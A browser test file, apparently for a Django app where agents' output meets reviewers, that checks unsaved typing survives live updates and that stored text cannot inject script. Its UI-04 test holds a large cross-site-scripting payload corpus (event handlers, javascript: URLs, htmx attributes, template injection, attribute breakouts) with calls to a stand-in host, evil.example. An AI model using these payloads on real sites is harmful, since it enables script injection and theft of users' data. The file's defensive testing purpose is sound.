"""Faults UI-03 and UI-04 in a real browser: news while a hand writes, and what agents wrote as a reviewer's browser meets it."""

from __future__ import annotations

import itertools

import psycopg
import pytest
from django.apps import apps
from django.db import connection
from playwright.sync_api import expect
from psycopg import sql
from psycopg.types.json import Json

from corrections import services as corrections
from outbox import services as outbox
from outbox.models import Decision, Policy
from outbox.policies import policy_for
from runs.models import Run
from tests.browser.pages import every_page
from tests.browser.scenes import make_board, make_note
from tests.checker import forged
from tests.factories import make_token, make_user
from tests.outbox.scenes import item_of, make_released, set_policy

pytestmark = pytest.mark.django_db(transaction=True)
LOW = {"viewport": {"width": 1280, "height": 500}}
# A button that appears where another was ignores presses for this long.
GUARD = 800
# What a hand has in the page: the field it writes in, the text, where the cursor stands, and what is in view.
HAND = """() => {
  const el = document.activeElement;
  return [el.id || el.name, el.value, el.selectionStart, el.selectionEnd, Math.round(el.getBoundingClientRect().top)];
}"""


@pytest.fixture(autouse=True)
def _policies_as_shipped(db):
    Policy.objects.exclude(capability="").delete()


def half_typed(page, label, text):
    """The cursor stands in the middle of what was typed."""
    field = page.get_by_label(label, exact=False).first
    field.fill(text)
    field.evaluate("(el) => { el.focus(); el.setSelectionRange(3, 5); }")
    return page.evaluate(HAND)


def test_ui_03_what_an_owner_types_stays_as_it_is_and_saving_over_news_is_refused(open_as, team):
    note = make_note(team)
    page = open_as(note.run.owner, note.get_absolute_url(), **LOW)
    hand = half_typed(page, "What they may have seen", "Mine, half")
    corrections.edit(note, by=note.run.owner, revision=1, seen="Theirs")
    expect(page.locator("#changed")).to_contain_text("This changed", timeout=8000)
    page.wait_for_timeout(2 * GUARD)
    assert page.evaluate(HAND)[:4] == hand[:4]
    page.get_by_role("button", name="Save the draft").click()
    expect(page.get_by_role("alert")).to_contain_text("What you may have seen: Theirs")
    expect(page.get_by_label("What they may have seen")).to_have_value("Mine, half")


def test_ui_03_a_reason_half_typed_stays_and_a_decision_on_what_changed_is_refused_with_the_difference(open_as, alice, team, settings):
    set_policy("tell_client", editable=["value"])
    item = item_of(make_board(team, settings), "tell")
    item.policy = policy_for("tell_client", "clients")
    item.save()
    page = open_as(alice, f"{item.get_absolute_url()}?confirm=reject", **LOW)
    hand = half_typed(page, "Why", "Not bef")
    priya = make_user(first_name="Priya", last_name="Nair", roles=("reviewer",), team=team)
    outbox.edit(item, digest=item.digest, by=priya, fields={"value": "other words"})
    expect(page.locator("#changed")).to_contain_text("This changed", timeout=8000)
    page.wait_for_timeout(2 * GUARD)
    assert page.evaluate(HAND)[:4] == hand[:4]
    page.get_by_role("button", name="Reject, send nothing").click()
    expect(page.get_by_role("alert").first).to_contain_text("It changed while you read")
    expect(page.get_by_role("region", name="What changed", exact=True)).to_contain_text("other words")
    assert not Decision.objects.exists()


@pytest.mark.parametrize("hand", ["on the row", "away"])
def test_ui_03_rows_that_are_ticked_stay_ticked_and_in_place(open_as, alice, team, hand):
    token = make_token(team=team)
    plan = [{"ref": f"c{n}", "capability": "tell_client", "args": {"name": f"client {n}", "value": "x"}} for n in range(3)]
    make_released(token=token, plan=plan)
    page = open_as(alice, "/outbox/", **LOW)
    boxes = page.locator('#several input[name="item"]')
    boxes.nth(1).check()
    boxes.nth(1).focus()
    if hand == "away":
        # Rows that are pointed at or focused are kept for that alone.
        boxes.nth(1).blur()
        page.mouse.move(2, 2)
    ticked, stood = boxes.nth(1).get_attribute("value"), boxes.nth(1).bounding_box()
    with page.expect_response(lambda answer: "/outbox/live/" in answer.url and answer.status == 200):
        make_released(
            token=make_token(team=team), plan=[{"ref": "new", "capability": "tell_client", "args": {"name": "new", "value": "x"}}]
        )
    page.wait_for_timeout(2 * GUARD)
    box = page.locator(f'#several input[value="{ticked}"]')
    expect(box).to_be_checked()
    if hand == "on the row":
        expect(box).to_be_focused()
    assert box.bounding_box()["y"] == pytest.approx(stood["y"], abs=2)


ELSEWHERE = "https://evil.example/"
ACTS = ["pwned()", "pwned`1`", "self['pw'+'ned']()", f"fetch('{ELSEWHERE}')", f"new Image().src='{ELSEWHERE}'"]
SHAPES = """
<script>ACT</script>
<img src=x onerror=ACT>
<svg onload=ACT>
<svg><script>ACT</script></svg>
<svg><a xlink:href="javascript:ACT"><text>x</text></a></svg>
<body onload=ACT>
<iframe src="javascript:ACT"></iframe>
<iframe srcdoc="<script>ACT</script>"></iframe>
<a href="javascript:ACT">x</a>
<a href="jAvAsCrIpT&colon;ACT">x</a>
<details open ontoggle=ACT>
<input autofocus onfocus=ACT>
<video><source onerror=ACT></video>
<math><mtext href="javascript:ACT">
<object data="javascript:ACT"></object>
<embed src="javascript:ACT">
<form action="javascript:ACT"><button>x</button></form>
<button formaction="javascript:ACT">x</button>
<div hx-get="https://evil.example/" hx-trigger="load">ACT</div>
<div data-hx-get="https://evil.example/" data-hx-trigger="load">ACT</div>
<div hx-on::load="ACT">x</div>
<div hx-on:click="ACT" hx-vals="js:{a: ACT}">x</div>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><!-- ACT
<link rel="stylesheet" href="https://evil.example/a.css?ACT">
<style>@import 'https://evil.example/ACT';</style>
<p style="background:url(https://evil.example/ACT)">
<img src="https://evil.example/leak.png?ACT">
<base href="https://evil.example/ACT/">
![x](https://evil.example/leak.png?ACT)
[x](javascript:ACT)
{{ ACT }}{% csrf_token %}
${ACT}{{constructor.constructor("ACT")()}}
" onmouseover="ACT" autofocus onfocus="ACT" x="
' onfocus='ACT' autofocus x='
"><script>ACT</script>
</script><script>ACT</script>
</title><script>ACT</script>
</textarea><script>ACT</script>
--><script>ACT</script>
&lt;script&gt;ACT&lt;/script&gt;
""".strip().splitlines()
CORPUS = [shape.replace("ACT", act) for shape in SHAPES for act in ACTS]
# Whatever people, agents, targets and admins write, by model. Names by which code finds rows stay as they are.
WRITTEN = {
    "accounts.User": "first_name last_name",
    "accounts.Token": "name",
    "runs.CapabilityRecord": "description lives_in read_by undo_cost undone_when disabled_by disabled_why proven_how",
    "runs.OutsideTool": "name reached_by lives_in read_by undo added_by",
    "runs.Run": "title ticket agent failed_why stopped_why",
    "runs.Check": "name subject url reported_by",
    "runs.Page": "subject body receipt error",
    "runs.Step": "why read_by error undo_error settled_by settled_why seen_at_settling",
    "runs.LogEntry": "actor",
    "runs.Alert": "name says",
    "runs.TargetPause": "why",
    "runs.System": "frozen_by frozen_why",
    "outbox.Version": "title as_read made_by",
    "outbox.Decision": "by_name role reason",
    "outbox.Notice": "webhook error",
    "corrections.Template": "body",
    "corrections.Audience": "name",
    "corrections.Correction": "place_label readers quote audience recipient seen reverted_to what_to_do back_when edited_by sent_by text"
    " error doubted dismissed_by dismissed_why",
}
JSON = {
    "runs.Step": "args effect prepared",
    "runs.LogEntry": "data",
    "outbox.Version": "to args was",
    "corrections.Correction": "signals place_address delivered",
}
# Keys whose values code reads; the words of all others are somebody's.
READ_BY_CODE = {
    "digest",
    "capability",
    "version",
    "key",
    "state",
    "kind",
    "audience",
    "target",
    "from",
    "to",
    "at",
    "until",
    "seq",
    "ref",
    "url",
}
# What runs or loads something from elsewhere. An address of our own may well name evil.example in its query.
ACTIVE = """() => {
  const loads = /^(src|href|xlink:href|srcset|action|formaction|data|(data-)?hx-(get|post|put|patch|delete))$/;
  const away = /^\\s*((https?:)?\\/\\/evil\\.example|javascript:)/i, within = /^(style|content|(data-)?hx-vals)$/;
  const runs = ({ name }) => /^on|^(data-)?hx-on/i.test(name);
  const leaves = ({ name, value }) => (loads.test(name) && away.test(value)) || (within.test(name) && /evil\\.example|^js:/i.test(value));
  const said = (el) => ({ name, value }) => `${el.tagName} ${name}=${value.slice(0, 100)}`;
  const of = (el) => [...el.attributes].filter((at) => runs(at) || leaves(at)).map(said(el));
  return [...document.querySelectorAll("*")].flatMap(of);
}"""


def poison():
    """Something of the corpus in every place where words of others are kept, as the owner of the tables writes; how many places."""
    corpus = itertools.cycle(CORPUS)
    places = 0
    with psycopg.connect(connection.owner_url, autocommit=True) as owner:
        owner.execute("SET session_replication_role = replica")
        for label in {**WRITTEN, **JSON}:
            model = apps.get_model(label)
            for row in list(model.objects.all()):
                texts = {name: _words(model._meta.get_field(name), corpus) for name in WRITTEN.get(label, "").split()}
                data = {name: Json(_poisoned(getattr(row, name), corpus)) for name in JSON.get(label, "").split() if getattr(row, name)}
                columns = sql.SQL(", ").join(sql.SQL("{} = %s").format(sql.Identifier(name)) for name in (*texts, *data))
                statement = sql.SQL("UPDATE {} SET {} WHERE id = %s").format(sql.Identifier(model._meta.db_table), columns)
                if texts or data:
                    owner.execute(statement, [*texts.values(), *data.values(), row.pk])
                    places += len(texts) + len(data)
    return places


def _words(field, corpus):
    """As many as fit; a long text holds ten of them."""
    size = field.max_length or 4000
    return next(one for one in corpus if len(one) <= size or size < 80)[:size] if size < 1000 else "\n".join(itertools.islice(corpus, 10))


def _poisoned(value, corpus):
    if isinstance(value, dict):
        return {key: one if key in READ_BY_CODE else _poisoned(one, corpus) for key, one in value.items()}
    if isinstance(value, list):
        return [_poisoned(one, corpus) for one in value]
    return next(corpus) if isinstance(value, str) else value


def test_ui_04_nothing_that_others_wrote_runs_leaves_or_becomes_active(open_as, client, team, settings, alice, bob):
    assert len(CORPUS) >= 200
    shown = every_page(team, settings, alice, bob)
    assert poison() > 2 * len(CORPUS)
    for run in Run.objects.all():
        forged(run, "the log was written over, too")
    windows, left, wrong = {}, [], []
    for one in shown:
        if one.by not in windows:
            windows[one.by] = page = open_as(one.by, "/login/")
            page.add_init_script("self.pwned = () => console.error('it ran')")
            page.on("request", lambda asked: left.append(asked.url) if "evil.example" in asked.url else None)
        answer = windows[one.by].goto(one.address)
        policy = answer.headers["content-security-policy"]
        wrong += [f"{one.name} answers {answer.status}"] if answer.status >= 500 else []
        wrong += [f"{one.name} says {policy}"] if "unsafe" in policy or "default-src 'none'" not in policy else []
        wrong += [f"{one.name}: {said}" for said in windows[one.by].evaluate(ACTIVE)]
    assert (wrong, left) == ([], [])
    for address in ("/audit.csv", "/audit.jsonl", f"/runs/{Run.objects.latest('pk').pk}/report.md"):
        client.force_login(next(one.by for one in shown if one.by and one.by.username == "ada"))
        answer = client.get(address)
        assert (answer.status_code, answer["X-Content-Type-Options"]) == (200, "nosniff")
        assert "html" not in answer["Content-Type"]
